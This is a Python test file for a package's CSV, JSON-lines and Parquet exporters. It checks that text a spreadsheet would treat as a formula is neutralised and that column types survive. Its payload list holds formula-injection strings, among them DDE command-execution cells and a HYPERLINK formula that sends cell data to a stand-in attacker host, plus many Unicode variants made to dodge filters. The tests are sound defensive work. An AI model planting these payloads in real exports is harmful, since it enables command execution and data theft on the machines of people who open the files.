"""The formats in rows: what spreadsheets would run is made plain, and programs get every letter and type."""

import csv
import io
import json
from datetime import UTC, date, datetime

import pyarrow as pa
import pytest
from pyarrow import parquet as arrow

from office.exports.columns import Column, Row
from office.exports.formats import json_lines, parquet, spreadsheet

NOON = datetime(2026, 7, 1, 12, tzinfo=UTC)
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    '"=1+1"',
    "'=1+1'",
    "\u201c=1+1",
    '" =1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\ufe66=1",
    "-5",
]
HARMLESS = ["", "painter", "a=b", "1-1", "agt_1", "O'Brien", "50% off", "{}", "a;=1+1", "\u4e2d\u6587"]


def as_csv(columns: list[Column], *rows: Row) -> str:
    out = io.BytesIO()
    spreadsheet.write(columns, iter(rows), out)
    return out.getvalue().decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_is_text(payload: str) -> None:
    written = as_csv([Column("name"), Column("units", "units")], (payload, payload))

    for row in list(csv.reader(io.StringIO(written, newline="")))[1:]:
        assert row == ["'" + payload] * 2
    # Quoted whole, so that no separator of another country begins a cell inside.
    assert written.partition("\r\n")[2].startswith("\"'")


@pytest.mark.parametrize("harmless", HARMLESS)
def test_other_text_stays_as_it_is(harmless: str) -> None:
    written = as_csv([Column("name")], (harmless,))

    assert list(csv.reader(io.StringIO(written, newline="")))[1] == [harmless]


def test_numbers_stay_numbers() -> None:
    columns = [Column("cents", "integer"), Column("at", "time"), Column("late", "flag"), Column("none")]

    written = as_csv(columns, (-500, NOON, True, None))

    assert written == '"cents","at","late","none"\r\n-500,"2026-07-01T12:00:00.000000Z","true",""\r\n'


@pytest.mark.parametrize("payload", PAYLOADS)
def test_programs_get_every_letter(payload: str) -> None:
    columns, out = [Column("name"), Column("cents", "integer")], io.BytesIO()
    json_lines.write(columns, iter([(payload, -5)]), out)
    assert json.loads(out.getvalue()) == {"name": payload, "cents": -5}

    out = io.BytesIO()
    parquet.write(columns, iter([(payload, -5)]), out)
    assert arrow.read_table(io.BytesIO(out.getvalue())).to_pylist() == [{"name": payload, "cents": -5}]


def test_parquet_is_typed_and_in_groups() -> None:
    columns = [
        Column("cents", "integer"),
        Column("at", "time"),
        Column("day", "date"),
        Column("late", "flag"),
        Column("units", "units"),
    ]
    row, rows = (2**62, NOON, date(2026, 7, 1), False, "9" * 78), 40_000
    out = io.BytesIO()

    parquet.write(columns, iter([row] * rows + [(None,) * 5]), out)

    file = arrow.ParquetFile(io.BytesIO(out.getvalue()))
    assert file.schema_arrow.types == [
        pa.int64(),
        pa.timestamp("us", tz="UTC"),
        pa.date32(),
        pa.bool_(),
        pa.string(),
    ]
    assert (file.metadata.num_rows, file.metadata.num_row_groups) == (rows + 1, 3)
    told = file.read().to_pylist()
    assert tuple(told[0].values()) == row
    assert set(told[-1].values()) == {None}


def test_json_is_nested_and_not_quoted_twice() -> None:
    out = io.BytesIO()

    json_lines.write([Column("after", "json")], iter([('{"cents": 5}',), (None,)]), out)

    assert [json.loads(line) for line in out.getvalue().splitlines()] == [
        {"after": {"cents": 5}},
        {"after": None},
    ]
